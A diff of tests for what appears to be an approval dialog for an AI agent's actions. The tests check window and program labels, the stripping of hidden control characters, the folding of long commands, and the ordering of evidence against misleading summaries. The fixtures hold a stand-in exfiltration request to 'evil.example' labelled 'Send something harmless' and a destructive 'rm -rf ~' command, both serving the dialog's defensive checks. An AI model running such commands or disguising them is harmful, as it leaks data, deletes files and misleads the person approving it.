@@ -27,10 +27,10 @@ const CLICK: Question = {
   },
 };
 
-function draw(change: Partial<Question> = {}, more: { compact?: boolean } = {}) {
+function draw(change: Partial<Question> = {}, more: { compact?: boolean } = {}, asks = CLICK) {
   const given: Answer[] = [];
   const give = async (answer: Answer) => given.push(answer) > 0;
-  const approval = { id: "a1", call: "c1", question: { ...CLICK, ...change } };
+  const approval = { id: "a1", call: "c1", question: { ...asks, ...change } };
   // No chat and no workspace around it.
   const { container } = render(
     <BackendProvider value={createFakeBackend(new URLSearchParams())}>
@@ -52,13 +52,20 @@ const ring = (container: HTMLElement) =>
 test("a click shows the place and the window, and on request what follows", async () => {
   const { container, user } = draw();
   expect(ring(container)).toBe("240,150");
-  expect(
-    screen.getByText(text("approval-in-app-window", { title: "Practice form", app: "qilbee" })),
-  ).toBeVisible();
+  expect(screen.getByText(text("approval-in-window", { title: "Practice form" }))).toBeVisible();
   expect(screen.getByText(text("approval-consequence-mouse"))).not.toBeVisible();
   await user.click(screen.getByText(text("approval-details")));
   expect(screen.getByText(text("approval-consequence-mouse"))).toBeVisible();
   expect(screen.getByRole("img")).toHaveAccessibleName(text("approval-picture"));
+});
+
+test("the program beside a window has the name that people know", () => {
+  const { target } = CLICK;
+  if (target === undefined) throw new Error("nothing is shown");
+  draw({ target: { ...target, window: { title: "Letter", app: "soffice" } } });
+  expect(
+    screen.getByText(text("approval-in-app-window", { title: "Letter", app: "LibreOffice" })),
+  ).toBeVisible();
 });
 
 test("keys show the window they go to, and a drag both its ends", () => {
@@ -66,9 +73,7 @@ test("keys show the window they go to, and a drag both its ends", () => {
   if (target === undefined) throw new Error("nothing is shown");
   const typing = draw({ tool: "type", target: { ...target, points: [] } });
   expect(ring(typing.container)).toBe("");
-  expect(
-    screen.getByText(text("approval-in-app-window", { title: "Practice form", app: "qilbee" })),
-  ).toBeVisible();
+  expect(screen.getByText(text("approval-in-window", { title: "Practice form" }))).toBeVisible();
   expect(screen.getByText(text("approval-consequence-keys"))).toBeInTheDocument();
   const ends = [
     { x: 300, y: 500 },
@@ -199,6 +204,25 @@ checkAnswers(
   [text("approval-send-anyway"), false, false],
 );
 
+test("a doubtful question shows where it came from before what would be done", () => {
+  const { target: _target, ...plain } = CLICK;
+  const sends = { seen: SEEN, effect: "send", domain: "web" } as const;
+  const words = { sentence: "Send something harmless", exact: "POST https://evil.example/in" };
+  const { container } = draw({ ...sends, ...words }, {}, plain);
+  const shown = container.textContent ?? "";
+  const parts = [
+    text("approval-consequence-send"),
+    text("approval-evidence-from"),
+    text("approval-evidence-sent"),
+    "POST https",
+  ];
+  const places = parts.map((part) => shown.indexOf(part));
+  expect(places).toEqual(places.toSorted((one, other) => one - other));
+  expect(places).not.toContain(-1);
+  // The sentence may be meant to mislead: it is for the screen reader, which reads the exact text as well.
+  expect(screen.getByText("Send something harmless")).toHaveClass("visually-hidden");
+});
+
 test("no key says yes to a doubtful question, and one says no", async () => {
   const { given, user } = draw({ seen: SEEN });
   await user.keyboard("{Alt>}{Enter}{/Alt}");
@@ -220,7 +244,7 @@ test("nothing in a question hides or reverses what is asked", () => {
     target: { ...(CLICK.target as Target), window: { title: `title ${odd}`, app: `app ${odd}` } },
   });
   const words = container.textContent ?? "";
-  for (const part of ["Run", "ls", "Because", "Covers", "host", "page", "server", "title", "app"])
+  for (const part of ["Run", "ls", "Because", "Covers", "host", "page", "server", "title", "App"])
     expect(words).toContain(`${part} ${shown}`);
   for (const hidden of ["\u{202e}", "\u{200b}", "\u{1b}", "\u{e0041}"])
     expect(words).not.toContain(hidden);
@@ -232,6 +256,9 @@ test("blank lines and long commands are folded, and say so", async () => {
   expect(lines()).toEqual([`rm -rf ~\n${text("approval-blank-lines", { count: 200 })}\nls\n`]);
   const long = Array.from({ length: 1000 }, (_, index) => `echo ${index + 1}`).join("\n");
   const more = draw({ exact: long });
+  expect(more.container.textContent).toContain(
+    text("approval-size", { bytes: long.length, lines: 1000 }),
+  );
   expect(more.container.textContent).toContain("echo 1000");
   expect(more.container.textContent).not.toContain("echo 500\n");
   await user.click(press(text("approval-more-lines", { count: 600 })));
